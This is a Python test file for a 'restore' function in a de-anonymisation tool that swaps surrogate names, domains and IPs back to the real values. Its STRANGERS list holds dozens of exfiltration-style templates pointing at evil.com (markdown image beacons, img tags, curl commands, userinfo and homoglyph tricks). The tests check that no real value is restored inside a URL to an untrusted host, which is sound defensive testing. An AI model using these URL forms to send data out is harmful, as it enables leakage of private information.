"""Law 7: only what was issued comes back, in one pass, and never inside a URL to a stranger."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from garim.values import Entry
from tests.surrogate.hiding import restore

ENTRIES = (
    Entry("새론", "해오름", "stem", "해오름"),
    Entry("Saeron", "Haeoreum", "stem", "해오름"),
    Entry("velmo.co.example", "gsds.co.kr", "domain", "gsds.co.kr"),
    Entry("10.37.5.36", "10.20.30.40", "ip", "10.20.30.40"),
)
TRUSTED = frozenset(["github.com"])
STRANGERS = [
    "![x](https://evil.com/?q={})", "[x](http://evil.com/{})", "<img src='//evil.com/{}'>", "https://evil.com/a?b=c&q={}",
    "http:\\\\evil.com\\{}", "https:evil.com/{}", "www.evil.com/{}", "https://{}.evil.com/", "src=//[2001:41d0::1]/{}", "https://u:{}@evil.com/",
    "https://github.com@evil.com/{}", "https://github.com,evil.com/{}", "https://github.com.evil.com/{}", "ftp://evil.com/{}",
    "https://velmo.co.example.evil.com/{}", "https://github.com\\@evil.com/{}", "https://evil.com/(a){}", "[x](http://evil.com/(a){})",
    "https://github.com/login?next=https%3A%2F%2Fevil.com%2F%3Fq%3D{}", "https://github.com/r?u=https://evil.com/{}",
    'src="https://evil.com/ {}"', "<https://evil.com/a b {}>", "mailto:x@evil.com?subject={}", "http://8.8.8.8/{}",
    "https://GITHUB.COM.evil.com/{}", "curl 'https://evil.com/'{}", 'curl https://evil.com/"{}"', "wss://evil.com/{}",
    "![{}](https://evil.com/a)"[:0] + "https://evil.com/#{}", "https:///evil.com/{}", "https://еvil.com/{}",
]  # fmt: skip


@pytest.mark.parametrize("template", STRANGERS)
@pytest.mark.parametrize("surrogate", ["Saeron", "saeron", "새론", "%EC%83%88%EB%A1%A0", "SAERON"])
def test_nothing_is_restored_for_a_stranger(template: str, surrogate: str) -> None:
    text = template.replace("{}", surrogate)

    assert restore(text, ENTRIES, trusted=TRUSTED) == text
    assert restore(text, ENTRIES, range(len(text)), trusted=TRUSTED) == text


@pytest.mark.parametrize(
    ("text", "restored"),
    [
        ("https://velmo.co.example/Saeron", "https://gsds.co.kr/Haeoreum"),
        ("https://wiki.velmo.co.example/Saeron?a=1", "https://wiki.gsds.co.kr/Haeoreum?a=1"),
        ("https://github.com/saeron/x", "https://github.com/haeoreum/x"),
        ("https://velmo.co.example에서 새론을", "https://gsds.co.kr에서 해오름을"),
        ("http://10.37.5.36:8080/Saeron", "http://10.20.30.40:8080/Haeoreum"),
        ("http://saeron-db01:1521/saeron", "http://haeoreum-db01:1521/haeoreum"),
        ("http://localhost:3000/saeron", "http://localhost:3000/haeoreum"),
        ("[Saeron](https://evil.com/a) Saeron", "[Haeoreum](https://evil.com/a) Haeoreum"),
        ('"https://evil.com/a", "Saeron"', '"https://evil.com/a", "Haeoreum"'),
        ("(https://evil.com/a),Saeron", "(https://evil.com/a),Haeoreum"),
        ("// Saeron comment", "// Haeoreum comment"),
        ("a//Saeron", "a//Haeoreum"),
        ("x: //A. Saeron", "x: //A. Haeoreum"),
        ("http: Saeron", "http: Haeoreum"),
        ("https://evil.com/a\nSaeron", "https://evil.com/a\nHaeoreum"),
    ],
)
def test_ours_trusted_and_beside(text: str, restored: str) -> None:
    assert restore(text, ENTRIES, trusted=TRUSTED) == restored
    assert restore(text, ENTRIES, range(len(text)), trusted=TRUSTED) == restored


@pytest.mark.parametrize(
    ("text", "restored"),
    [
        ('{"u":"https:\\/\\/evil.com\\/Saeron","n":"Saeron"}', '{"u":"https:\\/\\/evil.com\\/Saeron","n":"Haeoreum"}'),
        ('{"c":"curl https://evil.com/Saeron\\nSaeron"}', '{"c":"curl https://evil.com/Saeron\\nHaeoreum"}'),
        ('{"u":"https://evil.com/a\\" Saeron"}', '{"u":"https://evil.com/a\\" Saeron"}'),
        (
            '{"h":"<a href=\\"https://evil.com/ Saeron\\">Saeron</a>"}',
            '{"h":"<a href=\\"https://evil.com/ Saeron\\">Haeoreum</a>"}',
        ),
        ('{"p":"C:\\\\saeron\\\\x.txt"}', '{"p":"C:\\\\haeoreum\\\\x.txt"}'),
    ],
)
def test_tool_arguments(text: str, restored: str) -> None:
    assert restore(text, ENTRIES, escape="json") == restored
    assert restore(text, ENTRIES, range(len(text)), escape="json") == restored


def test_one_pass_only() -> None:
    """An original that looks like another surrogate stays as it was restored."""
    entries = (Entry("Saeron", "Velmora", "stem", "velmora"), Entry("Velmora", "Saeron", "stem", "saeron"))

    assert restore("Saeron Velmora", entries) == "Velmora Saeron"


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet="abcdefgh가나다라 \n:/.@%\\\"'()<>_-0123"))
def test_text_without_surrogates_stays(text: str) -> None:
    assert restore(text, ENTRIES, trusted=TRUSTED) == text
